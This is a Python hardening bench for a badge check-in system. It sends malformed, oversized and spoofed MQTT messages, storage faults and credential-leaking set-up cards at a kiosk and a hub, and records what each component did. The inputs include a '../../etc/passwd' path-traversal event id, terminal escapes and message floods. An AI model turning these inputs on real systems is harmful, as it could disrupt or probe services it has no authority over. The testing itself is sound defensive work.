"""Hostile inputs against the real parts, per area: what was tried, what the system did, pass/fail.

    .venv/bin/python bench/hostile_inputs.py [--only kiosk,cards,hub,web,camera] [--frames 30]

The evidence table of the hardening issue (issue 10), measured rather than remembered. Starts
its own Mosquitto (turnout.local_broker) and, per area:

- kiosk: the real kiosk daemon (``turnout-kiosk --sim`` in its own process, or in this process
  where a test needs its SQLite connection) against a stand-in hub; hostile payloads on its ack,
  config and hub-status topics, retained and not; a store that fails, fills up or is corrupt.
- cards: set-up cards that try to take a TLS kiosk off TLS or send its login to another host;
  a wi-fi card joined through an ``nmcli`` first on PATH that records its arguments.
- hub: ``turnout-hub serve`` in its own process with a custom base topic; junk floods, spoofed
  and made-up kiosk ids, oversized and malformed scans (acks collected per id).
- web: the same hub over HTTP: copied and aged session cookies, privacy look-up and claim
  guessing, admin password guessing, hostile names, a quarantined scan moved to an event,
  huge leaderboard limits.
- camera: generated frames of Code 128 badges upside down and tilted on busy backgrounds
  through the decoder chain (as bench/decode_frames.py, fewer frames).

Each row is observed: "what the system did" is read back from logs, acks, the database,
HTTP answers or decoder output, and the row passes only if that matches the expectation.
Exit status 1 when any row fails. Takes about three minutes on a small machine.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import uuid
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

import httpx  # noqa: E402
import paho.mqtt.client as mqtt  # noqa: E402
from paho.mqtt.enums import CallbackAPIVersion  # noqa: E402

from bench.hub_longrun import children, sample  # noqa: E402
from tests.hub.hubproc import HubProcess, cli  # noqa: E402
from tests.kiosk.sim import KioskProcess, StandInHub, wait_for  # noqa: E402
from turnout.codes import badge_code  # noqa: E402
from turnout.local_broker import MAX_PACKET_SIZE, Broker, free_port  # noqa: E402
from turnout.protocol import MAX_PAYLOAD_BYTES, Ack, AckStatus, KioskConfig, Scan, Topics  # noqa: E402

BASE_TOPIC = "civic/turnout"  # the hub runs with a custom base topic (the reassign row needs it)
PASSWORD = "hostile-inputs-pw-1"
KB = 1024


# --- the tables --------------------------------------------------------------------------------

@dataclass
class Row:
    tried: str
    did: str
    expected: str
    ok: bool


@dataclass
class Table:
    title: str
    rows: list[Row] = field(default_factory=list)

    def check(self, tried: str, expected: str, did: str, ok: bool) -> None:
        self.rows.append(Row(tried, did, expected, bool(ok)))
        print(f"  [{'pass' if ok else 'FAIL'}] {tried}: {did}", file=sys.stderr, flush=True)

    @contextlib.contextmanager
    def probe(self, tried: str, expected: str):
        """A probe that raises is a failed row saying what went wrong, not the end of the run."""
        try:
            yield
        except Exception as exc:  # the table must show it
            detail = str(exc).strip().splitlines()[0][:160] if str(exc).strip() else ""
            self.check(tried, expected, f"probe failed: {type(exc).__name__}: {detail}", False)
            traceback.print_exc(file=sys.stderr)

    def markdown(self) -> str:
        cell = lambda text: str(text).replace("|", "\\|").replace("\n", " ")  # noqa: E731
        lines = [f"### {self.title}", "", "| bad input tried | what the system did (observed) | expected | result |",
                 "|---|---|---|---|"]
        lines += [f"| {cell(r.tried)} | {cell(r.did)} | {cell(r.expected)} | {'pass' if r.ok else '**FAIL**'} |"
                  for r in self.rows]
        return "\n".join(lines)


def publisher(port: int, name: str = "hostile") -> mqtt.Client:
    client = mqtt.Client(CallbackAPIVersion.VERSION2, client_id=f"{name}-{uuid.uuid4().hex[:8]}")
    client.connect("127.0.0.1", port)
    client.loop_start()
    wait_for(client.is_connected, "the hostile publisher connected")
    return client


def pending(data_dir: Path) -> int:
    db = sqlite3.connect(data_dir / "kiosk.db")
    try:
        return db.execute("select count(*) from scans where acked_at is null").fetchone()[0]
    finally:
        db.close()


def lines_with(kiosk: KioskProcess, text: str) -> list[str]:
    return [e for e in list(kiosk.errors) if text in e]


STARTED: list[KioskProcess] = []  # closed at the end whatever happened, so none is left running


def start_kiosk(*args, **kwargs) -> KioskProcess:
    """``turnout-kiosk --sim`` in its own process (tests/kiosk/sim.py)."""
    STARTED.append(KioskProcess(*args, **kwargs))
    return STARTED[-1]


def close_kiosk(kiosk: KioskProcess) -> None:
    if kiosk.proc.poll() is None:
        kiosk.close()


# --- kiosk: nothing from the broker can stop it --------------------------------------------------

# What a broker (or anyone allowed to publish on it) could send on the kiosk's topics.
KIOSK_HOSTILE = {
    "4 KB of nested brackets": b"[" * MAX_PAYLOAD_BYTES,
    "an object nested 4,000 deep": b'{"v":1,"id":' * 400,
    "invalid UTF-8": b'{"v":1,"id":"\xff\xfe","status":"accepted"}',
    "wrong types": b'{"v":1,"id":["x"],"status":{"a":1},"event":7,"roles":"cake","state":[]}',
    "NaN and Infinity": b'{"v":NaN,"id":"x","status":"accepted","queued":Infinity}',
    "oversized (12 KB, over the 4 KB protocol limit)": b'{"v":1,"pad":"' + b"x" * 12_000 + b'"}',
    "a config whose event id is a path": KioskConfig("../../etc/passwd", "Hijack", ()).to_json(),
    "an event name with terminal escapes": b'{"v":1,"event":"ok","event_name":"\\u001b[2J"}',
    "binary, not JSON": b"\x00\x01\x02\xff",
}


def bad_message_count(kiosk: KioskProcess) -> int:
    return len(lines_with(kiosk, "ignored a bad message")) + len(lines_with(kiosk, "ignored a message"))


def last_reasons(kiosk: KioskProcess, count: int = 3) -> str:
    """What the last ``count`` ignored messages were ignored for, per topic (ack, config, status)."""
    said = []
    for line in lines_with(kiosk, "ignored a")[-count:]:
        topic = re.search(r" on (\S+) \(", line)
        where = topic.group(1).rsplit("/", 1)[-1] if topic else "?"
        said.append(f"{'hub status' if where == 'status' else where}: " + line.split("so far): ", 1)[-1][:48])
    return "; ".join(said) or "(nothing logged)"


def scan_goes_through(kiosk: KioskProcess, data_dir: Path, hub: StandInHub, badge: str) -> bool:
    kiosk.type(badge)
    kiosk.expect_tone("ok")
    wait_for(lambda: badge in hub.badges(), f"{badge} at the hub")
    wait_for(lambda: pending(data_dir) == 0, "its ack recorded")
    return True


def in_process(broker: Broker, data: Path, steps, before=None) -> dict[str, object]:
    """Run the real kiosk daemon in this process (tests/kiosk/in_process.py) through ``steps(kiosk,
    seen)``; what the steps saw."""
    from tests.kiosk.in_process import InProcessKiosk

    data.mkdir()
    seen: dict[str, object] = {}
    InProcessKiosk(data, broker.url).run(lambda k: steps(k, seen), before=before)
    return seen


def kiosk_link(table: Table, broker: Broker, work: Path) -> None:
    topics = Topics()
    hub = StandInHub(broker.port)
    evil = publisher(broker.port)
    kid = f"hostile-{uuid.uuid4().hex[:6]}"
    data = work / "kiosk-link"
    retained = {topics.ack(kid): "invalid UTF-8", topics.config(kid): "4 KB of nested brackets",
                topics.hub_status: "an object nested 4,000 deep"}
    for topic, name in retained.items():  # the broker hands these over on every (re)connection
        evil.publish(topic, KIOSK_HOSTILE[name], qos=1, retain=True).wait_for_publish(5)
    kiosk = start_kiosk(broker.url, data, kiosk_id=kid, extra=["-v"])
    try:
        with table.probe("retained at connect: invalid UTF-8 (ack), 4 KB nested brackets (config), "
                         "object nested 4,000 deep (hub status)",
                         "ignored and logged; kiosk online; scans still acked"):
            kiosk.wait_online()
            wait_for(lambda: bad_message_count(kiosk) >= 2, "the retained junk logged")
            synced = scan_goes_through(kiosk, data, hub, badge_code(101))
            table.check("retained at connect: invalid UTF-8 (ack), 4 KB nested brackets (config), "
                        "object nested 4,000 deep (hub status)", "ignored and logged; kiosk online; scans still acked",
                        f"{bad_message_count(kiosk)} ignored and logged ({last_reasons(kiosk)}); "
                        f"online; next scan acked", synced and kiosk.proc.poll() is None)
        for topic in retained:
            evil.publish(topic, b"", qos=1, retain=True).wait_for_publish(5)
        hub.say("online")
        time.sleep(1)  # the clearing messages are logged too (an empty hub status is not one): let them pass
        for n, (name, payload) in enumerate(KIOSK_HOSTILE.items()):
            expected = "ignored and logged on all three topics; kiosk keeps syncing"
            with table.probe(f"{name} ({len(payload):,} B) on ack, config and hub-status, not retained",
                             expected):
                before = bad_message_count(kiosk)
                for topic in (topics.ack(kid), topics.config(kid), topics.hub_status):
                    evil.publish(topic, payload, qos=1).wait_for_publish(5)
                wait_for(lambda: bad_message_count(kiosk) >= before + 3, "three messages ignored")
                synced = scan_goes_through(kiosk, data, hub, badge_code(200 + n))
                event_kept = hub.scans[-1]["event"] == "barcamp"
                table.check(f"{name} ({len(payload):,} B) on ack, config and hub-status, not retained", expected,
                            f"{bad_message_count(kiosk) - before} ignored ({last_reasons(kiosk)}); "
                            f"next scan acked{', event unchanged' if event_kept else ', EVENT CHANGED'}",
                            synced and event_kept and kiosk.proc.poll() is None)
        with table.probe("the whole run", "no traceback, process alive"):
            tracebacks = lines_with(kiosk, "Traceback")
            table.check("the whole run above", "no traceback in the log, process alive",
                        f"{len(tracebacks)} tracebacks, process {'alive' if kiosk.proc.poll() is None else 'DEAD'}",
                        not tracebacks and kiosk.proc.poll() is None)
    finally:
        close_kiosk(kiosk)
        evil.loop_stop()
        evil.disconnect()
        hub.close()
    # The oversized packet the broker itself refuses: the sender is cut off, nobody receives it.
    with table.probe(f"{MAX_PACKET_SIZE // KB + 4} KB packet (over the broker's max_packet_size)",
                     "broker refuses it; nothing delivered"):
        big = publisher(broker.port)
        received = []
        listener = publisher(broker.port, "listener")
        listener.on_message = lambda c, u, m: received.append(m)
        listener.subscribe(topics.config("oversize-1"), qos=1)
        time.sleep(0.3)
        big.publish(topics.config("oversize-1"), b"x" * (MAX_PACKET_SIZE + 4 * KB), qos=1)
        wait_for(lambda: not big.is_connected(), "the sender cut off", timeout=10)
        time.sleep(0.5)
        table.check(f"{MAX_PACKET_SIZE // KB + 4} KB packet on a kiosk's config topic (over the broker's max_packet_size)",
                    "refused by the broker, never delivered to a kiosk",
                    f"Mosquitto disconnected the sender; {len(received)} delivered", not received)
        for client in (big, listener):
            client.loop_stop()
            client.disconnect()

    tried = "paho's network thread dies anyway (a callback raising, the link's guard bypassed)"
    expected = "kiosk notices, shows offline, rebuilds the link; scans sync again"
    with table.probe(tried, expected):
        from kiosk.machine import CodeRead

        hub = StandInHub(broker.port)
        data = work / "kiosk-thread"

        def steps(k, seen):
            k.wait_online()
            first = k.kill_network_thread(hub.client)
            seen["rebuilt"] = k.daemon.link is not first and k.daemon.link.running
            k.daemon.post(CodeRead(badge_code(777)))
            wait_for(lambda: badge_code(777) in hub.badges(), "a scan made after the death at the hub")
            wait_for(lambda: pending(data) == 0, "its ack recorded")
            seen["synced"] = True

        seen = in_process(broker, data, steps)
        hub.close()
        table.check(tried, expected, f"idle screen went offline, then online on a new link "
                    f"(rebuilt: {seen.get('rebuilt')}); the next scan was acked", seen.get("rebuilt") and seen.get("synced"))


# --- kiosk: storage failures -----------------------------------------------------------------------

def kiosk_storage(table: Table, broker: Broker, work: Path) -> None:
    from tests.kiosk.test_store import damage_page_holding, filled_store

    topics = Topics()
    # 1. A failing write while settling an ack: another process holds SQLite's write lock.
    data = work / "store-locked"
    hub = StandInHub(broker.port, answering=False)
    kiosk = start_kiosk(broker.url, data, kiosk_id=f"locked-{uuid.uuid4().hex[:6]}", extra=["-v"])
    tried = "ack arrives while kiosk.db is locked by another process (write fails)"
    expected = "problem screen, scan stays pending, no crash; recorded once the store works"
    with table.probe(tried, expected):
        kiosk.wait_online()
        kiosk.type(badge_code(301))
        kiosk.expect_tone("ok")
        wait_for(lambda: hub.scans, "the scan at the stand-in hub")
        ack = Ack(hub.scans[0]["id"], AckStatus.ACCEPTED).to_json()
        holder = sqlite3.connect(data / "kiosk.db", isolation_level=None)
        holder.execute("begin immediate")
        hub.client.publish(topics.ack(kiosk.kiosk_id), ack, qos=1).wait_for_publish(5)
        kiosk.expect_tone("error")
        wait_for(lambda: lines_with(kiosk, "screen: Problem(title='Storage error'"), "the problem screen")
        alive_pending = kiosk.proc.poll() is None and pending(data) == 1
        holder.execute("rollback")
        holder.close()
        hub.client.publish(topics.ack(kiosk.kiosk_id), ack, qos=1).wait_for_publish(5)
        wait_for(lambda: pending(data) == 0, "the answer recorded after the lock is gone")
        table.check(tried, expected, "error tone + 'Storage error' screen, still running, scan pending (1); "
                    "re-sent ack recorded once the lock went", alive_pending)
    close_kiosk(kiosk)
    hub.close()

    # 2. A full disk: the kiosk's own SQLite connection may not grow past the pages it has (+1).
    tried = "full disk (kiosk.db may not grow) while badges keep coming"
    expected = "every OK-beeped scan kept and sent; then error tone + problem screen, no crash"
    with table.probe(tried, expected):
        from tests.kiosk.in_process import fill_up

        hub = StandInHub(broker.port, answering=False)
        data = work / "store-full"

        def steps(k, seen):
            k.wait_online()
            beeped = k.scan_until_refused(400, 700)
            seen["beeped"], seen["problem"] = beeped, k.problems()[-1] if k.problems() else None
            wait_for(lambda: len(hub.scans) >= beeped, "every beeped scan at the hub")
            db = sqlite3.connect(data / "kiosk.db")
            seen["stored"] = db.execute("select count(*) from scans").fetchone()[0]
            db.close()
            seen["sent"] = len(hub.ids())

        seen = in_process(broker, data, steps, before=fill_up)
        good = seen["beeped"] > 0 and seen["stored"] == seen["beeped"] == seen["sent"] and seen["problem"]
        table.check(tried, expected, f"{seen['beeped']} OK beeps, {seen['stored']} in kiosk.db, {seen['sent']} at the hub; "
                    f"then error tone and {seen['problem']}", good)
        hub.close()

    # 3. A corrupt kiosk.db: moved aside with a timestamp, a fresh store, `recover` re-queues.
    tried = "corrupt kiosk.db (one page of answered scans overwritten) holding 40 unsent scans"
    expected = "moved aside (kept), fresh store, screen + status say so; `recover` re-queues the 40"
    with table.probe(tried, expected):
        data = work / "store-corrupt"
        data.mkdir()
        kid = "k1"  # the kiosk filled_store writes for
        page_size = filled_store(data / "kiosk.db", 100, acked=range(1, 61))
        damage_page_holding(data / "kiosk.db", "2026-11-23T10:00:00.030Z", page_size)  # a bad card write
        hub = StandInHub(broker.port, answering=False)
        kiosk = start_kiosk(broker.url, data, kiosk_id=kid, extra=["-v"])
        wait_for(lambda: lines_with(kiosk, "storage was reset"), "the reset in the log")
        moved = sorted(data.glob("kiosk.db.corrupt-*"))
        wait_for(lambda: lines_with(kiosk, "warning='Storage was reset'"), "the reset on screen")
        wait_for(lambda: hub.statuses.get(kid, {}).get("storage") == "reset", "the status says reset")
        kiosk.type(badge_code(999))
        kiosk.expect_tone("ok")
        close_kiosk(kiosk)
        settings = data / "kiosk.toml"
        settings.write_text(f'kiosk_id = "{kid}"\ndata_dir = "{data}"\n')
        out = subprocess.run([sys.executable, "-m", "kiosk.cli", "recover", str(moved[0]), "--config", str(settings)],
                             capture_output=True, text=True, cwd=ROOT, timeout=60)
        said = (out.stdout.strip().splitlines() or [out.stderr.strip()])[-1][:80]
        table.check(tried, expected, f"moved to {moved[0].name if moved else '(nothing)'}; screen 'Storage was reset', "
                    f"status storage=reset, new scans beep OK; recover: \"{said}\"",
                    len(moved) == 1 and out.returncode == 0 and "40 scans back in the outbox" in out.stdout)
        hub.close()

    # 4. kiosk.db that cannot be opened at all (a directory in its place, as a read-only card).
    tried = "kiosk.db cannot be opened (a directory in its place)"
    expected = "error tone + log, no crash loop; works once put right"
    with table.probe(tried, expected):
        data = work / "store-unopenable"
        (data / "kiosk.db").mkdir(parents=True)
        hub = StandInHub(broker.port)
        kiosk = start_kiosk(broker.url, data, kiosk_id=f"unopen-{uuid.uuid4().hex[:6]}", extra=["-v"])
        wait_for(lambda: lines_with(kiosk, "storage error: cannot open"), "the error in the log")
        kiosk.expect_tone("error")
        alive = kiosk.proc.poll() is None
        (data / "kiosk.db").rmdir()
        wait_for(lambda: lines_with(kiosk, "storage works again"), "opened on a later try", timeout=30)
        synced = scan_goes_through(kiosk, data, hub, badge_code(998))
        table.check(tried, expected, "'storage error: cannot open' + error tone, process kept running; "
                    "opened on a later try and the next scan was acked", alive and synced)
        close_kiosk(kiosk)
        hub.close()


# --- set-up cards and wi-fi ------------------------------------------------------------------------

def cards(table: Table, broker: Broker, work: Path) -> None:
    # The link's address as logged shows the username (never the password) when it has a login.
    for host, expected, wanted in (
            ("localhost", "stays on TLS; the login stays with the host it was set up for (docs/protocol.md)",
             "mqtts://localhost:8883"),
            ("127.0.0.1", "stays on TLS and keeps its login (the same host)", "mqtts://hall-user@127.0.0.1:8883")):
        tried = f"set-up card TURNOUT:SETUP:spring-camp@{host} shown to a kiosk on mqtts://hall-user:pw@127.0.0.1:…"
        with table.probe(tried, expected):
            kiosk = start_kiosk(f"mqtts://hall-user:pw@127.0.0.1:{free_port()}", work / f"card-tls-{host}",
                                 event=None, extra=["-v"])
            try:
                kiosk.type(f"TURNOUT:SETUP:spring-camp@{host}")
                kiosk.expect_tone("ok")
                wait_for(lambda: lines_with(kiosk, "switching to the hub at"), "the switch logged")
                line = lines_with(kiosk, "switching to the hub at")[-1]
                target = re.search(r"switching to the hub at (\S+)", line).group(1)
            finally:
                close_kiosk(kiosk)
            table.check(tried, expected, f"switched to {target}", target == wanted)

    tried = "set-up card naming another host, shown to a kiosk with a broker login"
    expected = "connects there without the login (no credentials to a host a card named)"
    with table.probe(tried, expected):
        other = Broker(work / "other-broker")
        with open(other.conf, "a") as conf:
            conf.write("log_type notice\nconnection_messages true\n")
        other.start()
        settings = work / "card-creds.toml"
        settings.write_text('broker_username = "hall-user"\nbroker_password = "s3cret-pw"\n')
        kiosk = start_kiosk(broker.url, work / "card-creds", kiosk_id=f"creds-{uuid.uuid4().hex[:6]}",
                             event=None, extra=["-v", "--config", str(settings)])
        try:
            kiosk.wait_online()
            kiosk.type(f"TURNOUT:SETUP:spring-camp@localhost:{other.port}")
            kiosk.expect_tone("ok")
            log = other.workdir / "mosquitto.log"
            wait_for(lambda: f"as turnout-kiosk-{kiosk.kiosk_id}" in log.read_text(), "the kiosk at the card's broker")
            [line] = [ln for ln in log.read_text().splitlines() if f"as turnout-kiosk-{kiosk.kiosk_id}" in ln]
            leaked = "u'" in line or any("s3cret-pw" in e for e in kiosk.errors)
        finally:
            close_kiosk(kiosk)
            other.stop()
        table.check(tried, expected, "the other broker logged: \"" + line.split(": ", 1)[-1][:90] + '" ('
                    + ("WITH a username" if leaked else "no username") + ")", not leaked)

    tried = "wi-fi card WIFI:T:WPA;S:venue;P:cake:1234;; joined (nmcli on PATH records its argv)"
    expected = "password never in any argv; handed over in a private file"
    with table.probe(tried, expected):
        from kiosk.wifi import join_wifi, parse_wifi

        from tests.kiosk.fake_nmcli import install_fake_nmcli, recorded

        record = work / "nmcli-argv.txt"
        bin_dir = install_fake_nmcli(work / "nmcli-bin", record)
        saved = {k: os.environ.get(k) for k in ("PATH", "RUNTIME_DIRECTORY")}
        os.environ["PATH"] = f"{bin_dir}{os.pathsep}{os.environ['PATH']}"
        os.environ["RUNTIME_DIRECTORY"] = str(work)
        try:
            result = join_wifi(parse_wifi("WIFI:T:WPA;S:venue;P:cake:1234;;"))
        finally:
            for key, value in saved.items():
                os.environ.pop(key, None) if value is None else os.environ.__setitem__(key, value)
        calls = recorded(record)
        argvs = [arg for call in calls for arg in call if not arg.startswith(("mode ", "dir mode ", "file "))]
        modes = [line.split()[-1] for call in calls for line in call if line.startswith("mode ")]
        in_file = any(line == "file 802-11-wireless-security.psk:cake:1234" for call in calls for line in call)
        table.check(tried, expected, f"{len(calls)} nmcli calls, password in argv: "
                    f"{'YES' if any('cake:1234' in a for a in argvs) else 'no'}; in a passwd-file of mode {modes}: "
                    f"{'yes' if in_file else 'no'}; joined={result.joined}",
                    not any("cake:1234" in a for a in argvs) and modes == ["0o600"] and in_file)


# --- hub: bounded under floods ---------------------------------------------------------------------

class AckCollector:
    """Every ack the hub sends, by scan id and the kiosk topic it came on."""

    def __init__(self, port: int, topics: Topics):
        self.acks: dict[str, tuple[str, dict]] = {}
        self.lock = threading.Lock()
        self.client = publisher(port, "acks")
        self.topics = topics
        self.client.on_message = self._on_message
        self.client.subscribe(f"{topics.base}/kiosk/+/ack", qos=1)
        time.sleep(0.3)

    def _on_message(self, client, userdata, msg) -> None:
        with contextlib.suppress(ValueError):
            data = json.loads(msg.payload)
            with self.lock:
                self.acks[data["id"]] = (self.topics.kiosk_of(msg.topic)[0], data)

    def get(self, scan_id: str, timeout: float = 10) -> tuple[str, dict] | None:
        with contextlib.suppress(AssertionError):
            return wait_for(lambda: self.acks.get(scan_id), f"the ack of {scan_id}", timeout=timeout)
        return None

    def count(self, ids) -> int:
        with self.lock:
            return sum(i in self.acks for i in ids)


def db_bytes(db: Path) -> int:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=10)
    try:
        pages, free, size = (conn.execute(f"pragma {p}").fetchone()[0]
                             for p in ("page_count", "freelist_count", "page_size"))
        return (pages - free) * size
    finally:
        conn.close()


def refused(db: Path, kiosk: str | None = None) -> int:
    """Messages the hub has counted as refused (hub.storage.quarantine), from one kiosk or all."""
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=10)
    try:
        sql = "SELECT COALESCE(SUM(refused), 0) FROM quarantine_counts"
        return conn.execute(sql + (" WHERE kiosk = ?" if kiosk else ""), (kiosk,) if kiosk else ()).fetchone()[0]
    finally:
        conn.close()


def counted(db: Path, before: int, more: int, kiosk: str | None = None) -> int:
    """How many more refusals the hub counted, once it has counted ``more`` (or after 10 s)."""
    with contextlib.suppress(AssertionError):
        wait_for(lambda: refused(db, kiosk) - before >= more, "the refusals counted", timeout=10)
    return refused(db, kiosk) - before


def hub_rss(hub: HubProcess) -> float:
    return hub_usage(hub)[1]


def hub_usage(hub: HubProcess) -> tuple[int, float]:
    """Open descriptors and resident MB of the hub and its intake process together."""
    samples = [sample(pid) for pid in (hub.proc.pid, *children(hub.proc.pid))]
    return sum(s[0] for s in samples), sum(s[1] for s in samples)


@dataclass
class HubSite:
    hub: HubProcess
    db: Path
    topics: Topics
    event: str
    acks: AckCollector
    sender: mqtt.Client
    badges: dict[str, str]
    blanks: list[tuple[str, str]]
    seq: int = 0
    started_with: tuple[int, float] = (0, 0.0)  # open descriptors and MB resident, hub and intake

    def scan(self, kiosk: str, badge: str, event: str | None = None, **changes) -> dict:
        self.seq += 1
        body = {**Scan(id=str(uuid.uuid4()), kiosk=kiosk, event=event or self.event, badge=badge, role="attend",
                       ts=f"{date.today().isoformat()}T10:00:00Z", seq=self.seq, clock_ok=True).to_dict(), **changes}
        return body

    def send(self, topic: str, payload: bytes, qos: int = 1) -> None:
        self.sender.publish(topic, payload, qos=qos).wait_for_publish(10)


def start_hub(broker: Broker, work: Path) -> HubSite:
    db = work / "hub.sqlite"
    cli(db, "seed-sample", "--people", "40", "--events", "4")
    event = cli(db, "event", "add", "Hostile day", "--date", date.today().isoformat()).stdout.split()[-1]
    badges = {
        "ada": cli(db, "person", "add", "Ada Lovelace", "--email", "ada@example.org", "--consent", "full").stdout.split()[-1],
        "mallory": cli(db, "person", "add", "Mallory M", "--email", "mallory@example.org").stdout.split()[-1],
    }
    blanks = [tuple(line.split("\t")) for line in cli(db, "person", "blank", "45").stdout.splitlines()]
    config = work / "hub.toml"
    config.write_text(f'base_topic = "{BASE_TOPIC}"\n')
    os.environ["TURNOUT_HUB_ADMIN_PASSWORD"] = PASSWORD
    hub = HubProcess(db, broker.url, work / "hub.log", config=config).start()
    topics = Topics(BASE_TOPIC)
    site = HubSite(hub, db, topics, event, AckCollector(broker.port, topics), publisher(broker.port, "kiosks"),
                   badges, blanks)
    time.sleep(2)  # past start-up: its first statistics built
    site.started_with = hub_usage(hub)
    return site


def answer(site: HubSite, scan_id: str, timeout: float = 10) -> str:
    got = site.acks.get(scan_id, timeout)
    if got is None:
        return "no answer"
    kiosk, ack = got
    return f"{ack['status']} on {kiosk}'s ack topic" + (f" ({ack.get('reason')})" if ack.get("reason") else "")


# The protocol's payloads are UTF-8 JSON (docs/protocol.md): bytes that are not have no id the hub
# can read, so nothing to answer; the kiosk re-sends its scan from the outbox, written afresh.
NOT_JSON = "not JSON, so no id to answer: quarantined and counted, hub unaffected"


def hub_floods(table: Table, site: HubSite) -> None:
    topics = site.topics
    tried, expected = "a good scan (baseline)", "accepted"
    with table.probe(tried, expected):
        good = site.scan("door-1", site.badges["ada"])
        site.send(topics.scan("door-1"), json.dumps(good).encode())
        said = answer(site, good["id"])
        table.check(tried, expected, said, said.startswith("accepted"))

    tried = "2,000 junk messages of 3-5 KB with ids, on one kiosk's scan topic"
    expected = "every id answered (rejected, with a reason); database grows < 3 MB; hub alive"
    with table.probe(tried, expected):
        before_db, before_rss = db_bytes(site.db), hub_rss(site.hub)
        ids = [f"junk-{n}-{uuid.uuid4().hex[:8]}" for n in range(2000)]
        started = time.monotonic()
        for n, scan_id in enumerate(ids):
            payload = json.dumps({"v": 1, "id": scan_id, "padding": "x" * (3000 + n % 2000)}).encode()
            site.sender.publish(topics.scan("flood-1"), payload, qos=1)
        wait_for(lambda: site.acks.count(ids) == len(ids), "every junk id answered", timeout=120)
        spent = time.monotonic() - started
        grown, rss = db_bytes(site.db) - before_db, hub_rss(site.hub) - before_rss
        statuses = {site.acks.acks[i][1]["status"] for i in ids}
        reason = site.acks.acks[ids[-1]][1].get("reason")
        table.check(tried, expected,
                    f"{site.acks.count(ids):,}/2,000 answered {'/'.join(sorted(statuses))} (\"{reason}\") in {spent:.0f} s; "
                    f"database +{grown / KB / KB:.2f} MB; hub RSS {rss:+.1f} MB; alive",
                    statuses == {"rejected"} and grown < 3 * KB * KB and site.hub.proc.poll() is None)

    probes = [
        ("spoofed kiosk id: door-2's scan published on door-1's topic",
         lambda: ("door-1", site.scan("door-2", site.badges["ada"])), "rejected, answered on door-1's topic"),
        ("a badge nested 50 deep in brackets (under 4 KB)",
         lambda: ("door-1", site.scan("door-1", "NEST50")), "rejected with an answer"),
        ("deep nesting (3,000 brackets) inside a scan with an id",
         lambda: ("door-1", {**site.scan("door-1", site.badges["ada"]), "x": "NEST3000"}), NOT_JSON),
        ("wrong types (badge a list, seq a string)",
         lambda: ("door-1", site.scan("door-1", ["T1"], seq="7")), "rejected with an answer"),
        ("NaN as seq", lambda: ("door-1", site.scan("door-1", site.badges["ada"], seq=float("nan"))),
         "rejected with an answer"),
        ("a badge with a bidi override", lambda: ("door-1", site.scan("door-1", "T57\u202e24")), "rejected with an answer"),
        ("an event id that is not one", lambda: ("door-1", site.scan("door-1", site.badges["ada"], event="../../x")),
         "rejected with an answer"),
        ("invalid UTF-8 in a scan with an id", lambda: ("door-1", "UTF8"), NOT_JSON),
        ("oversized: 10 KB scan with an id (over the 4 KB protocol limit)",
         lambda: ("door-1", {**site.scan("door-1", site.badges["ada"]), "pad": "x" * 10_000}), "rejected with an answer"),
    ]
    for tried, build, expected in probes:
        with table.probe(tried, expected):
            kiosk, body = build()
            if body == "UTF8":
                scan_id = str(uuid.uuid4())
                payload = b'{"v":1,"id":"' + scan_id.encode() + b'","kiosk":"door-1","badge":"\xff\xfe"}'
            else:
                scan_id = body["id"]
                payload = json.dumps(body, allow_nan=True).encode()
                for mark, depth in ((b'"NEST50"', 50), (b'"NEST3000"', 3000)):
                    payload = payload.replace(mark, b"[" * depth + b"]" * depth)
            before = refused(site.db, kiosk)
            site.send(topics.scan(kiosk), payload)
            if expected == NOT_JSON:
                said = answer(site, scan_id, timeout=3)
                more = counted(site.db, before, 1, kiosk)
                after = site.scan("door-1", site.blanks[42 if "UTF-8" in tried else 43][0])
                site.send(topics.scan("door-1"), json.dumps(after).encode())
                ok = said == "no answer" and more == 1 and answer(site, after["id"]).startswith(("accepted", "duplicate"))
                said += f"; counted as refused: {more}; next good scan {answer(site, after['id']).split(' on ')[0]}"
            else:
                said = answer(site, scan_id)
                ok = said.startswith("rejected") and (f"on {kiosk}'s" in said)
            table.check(tried + f" ({len(payload):,} B)", expected, said, ok)

    from hub.storage.kiosks import MAX_KIOSKS_FROM_TRAFFIC
    made = MAX_KIOSKS_FROM_TRAFFIC + 100
    tried = f"{made:,} scans from made-up kiosk ids (one message each)"
    expected = "each answered; the kiosks list stays bounded"
    with table.probe(tried, expected):
        sent = []
        for n in range(made):
            kiosk = f"made-up-{n}"
            body = site.scan(kiosk, site.badges["ada"], event="no-such-event")
            sent.append(body["id"])
            site.sender.publish(topics.scan(kiosk), json.dumps(body).encode(), qos=1)
        wait_for(lambda: site.acks.count(sent) == len(sent), "all made-up kiosks answered", timeout=60)
        kiosks = httpx.get(f"{site.hub.api}/kiosks", timeout=10).json()
        made_up = sum(k["id"].startswith("made-up-") for k in kiosks)
        table.check(tried, expected, f"{site.acks.count(sent):,}/{made:,} answered; {made_up:,} of them listed as kiosks "
                    f"({len(kiosks):,} kiosks in all, cap {MAX_KIOSKS_FROM_TRAFFIC:,})",
                    site.acks.count(sent) == made and len(kiosks) <= MAX_KIOSKS_FROM_TRAFFIC)

    tried = "a scan with an id on a topic whose kiosk id is invalid (kiosk/Bad Id!/scan)"
    expected = "not answered (no valid kiosk to answer on), counted; hub unaffected"
    with table.probe(tried, expected):
        body = site.scan("door-1", site.badges["ada"])
        before = refused(site.db)
        site.send(f"{BASE_TOPIC}/kiosk/Bad Id!/scan", json.dumps(body).encode())
        said = answer(site, body["id"], timeout=3)
        more = counted(site.db, before, 1)
        table.check(tried, expected, f"{said}; counted as refused: {more}",
                    said == "no answer" and more == 1 and site.hub.proc.poll() is None)

    tried = "messages without an id: empty, 'null', 4 KB of brackets, binary"
    expected = "nothing to answer; each counted as refused; hub unaffected"
    with table.probe(tried, expected):
        before = refused(site.db, "door-1")
        for payload in (b"", b"null", b"[" * 4096, bytes(range(256))):
            site.send(topics.scan("door-1"), payload)
        more = counted(site.db, before, 4, "door-1")
        after = site.scan("door-1", site.badges["mallory"])
        site.send(topics.scan("door-1"), json.dumps(after).encode())
        said = answer(site, after["id"])
        table.check(tried, expected, f"counted as refused: {more}; the next good scan: {said}",
                    more == 4 and said.startswith("accepted"))

